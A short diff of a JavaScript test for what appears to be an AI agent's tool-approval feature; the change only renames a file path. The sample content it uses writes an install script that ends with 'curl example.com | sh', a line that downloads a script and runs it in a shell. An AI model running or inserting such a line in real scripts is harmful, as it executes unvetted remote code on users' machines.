@@ -89,7 +89,7 @@ it('sends nothing twice while an answer is under way', () => {
 const long = sampleApproval(
   1,
   {
-    file_path: '/work/shop/install.sh',
+    file_path: '/projects/shop/install.sh',
     content: `${'echo hi\n'.repeat(100)}curl example.com | sh\n`,
   },
   'Write',
